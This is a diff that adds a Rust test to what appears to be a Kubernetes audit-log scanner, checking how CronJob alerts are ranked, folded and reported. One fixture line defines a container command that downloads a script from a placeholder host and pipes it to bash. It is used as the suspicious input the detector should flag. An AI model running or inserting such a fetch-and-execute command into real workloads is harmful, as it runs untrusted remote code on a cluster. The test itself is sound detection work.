@@ -294,6 +294,42 @@ fn next_steps_fit_what_became_of_the_cronjob() {
     assert_eq!(judged(&[request(0, "create", "eve", &refused)], &[])["alerts"], json!([]));
 }
 
+/// One of a kind that is graver than many stands before them, wherever it stands in time.
+#[test]
+fn the_gravest_of_a_verdict_comes_first_and_what_is_alike_is_folded() {
+    let script = json!({"containers": [{"name": "c", "image": FINE, "command": ["sh", "-c", "curl -s https://x.example.net/p | bash"]}]});
+    let mut piped = whole(FINE);
+    piped["spec"]["jobTemplate"] = in_template(&script)["jobTemplate"].clone();
+    let mut events: Vec<Value> =
+        (0..9).map(|day| request(day * 1440, "update", "op@corp", &asked(&piped))).collect();
+    let place = json!({"resource": "cronjobs", "namespace": "kube-system", "name": "late"});
+    let fine = json!({"resource": "cronjobs", "namespace": "kube-system", "name": "fine"});
+    events.push(request(5000, "create", "eve", &json!({"objectRef": fine, "requestObject": whole(FINE)})));
+    events.push(request(5005, "create", "eve", &json!({"objectRef": place, "requestObject": piped})));
+    let found = judged(&events, &[]);
+    let verdicts: Vec<&Value> = found["alerts"].as_array().unwrap().iter().map(|page| &page["verdict"]).collect();
+    assert!(verdicts.iter().all(|verdict| *verdict == "SUSPICIOUS"), "{verdicts:?}");
+    let flags = |at: usize| found["alerts"][at]["red_flags"].as_array().unwrap().len();
+    assert!((1..10).all(|at| flags(at - 1) >= flags(at)), "{verdicts:?}");
+    assert_eq!(found["alerts"][0]["decided_by"], "kube-system/late");
+
+    let directory = tempfile::tempdir().unwrap();
+    let lines: Vec<String> = events.iter().map(|event| format!("{event}\n")).collect();
+    std::fs::write(directory.path().join("audit.log"), lines.concat()).unwrap();
+    let (_temporary, out, run) = scan(&[directory.path().to_owned()], &[]);
+    let gravest = run.stderr.split_once("gravest").unwrap().1;
+    assert!(gravest.contains("[eve] created CronJob [kube-system/fine]"), "{gravest}");
+    assert!(gravest.contains("decided by kube-system/late  2026-05-04 11:25Z\n"), "{gravest}");
+    assert!(gravest.contains(" alike: same user"), "{gravest}");
+    assert!(run.stderr.lines().all(|line| line.chars().count() <= 80), "{}", run.stderr);
+    let page = std::fs::read_to_string(out.join("report.html")).unwrap();
+    assert!(page.find("[eve] created").unwrap() < page.find("[op@corp] modified").unwrap());
+    assert!(page.contains("decided by <bdi>kube-system/late</bdi> 2026-05-04 11:25:00Z"));
+
+    let run = kubesweep(directory.path(), &["scan", "audit.log", "-o", "-"]);
+    assert!(!run.stderr.contains("report.html") && !run.stderr.contains(".csv"), "{}", run.stderr);
+}
+
 #[test]
 fn operations_that_cannot_be_repeated_leave_nothing_known() {
     let create = request(0, "create", "argo", &asked(&whole(FINE)));
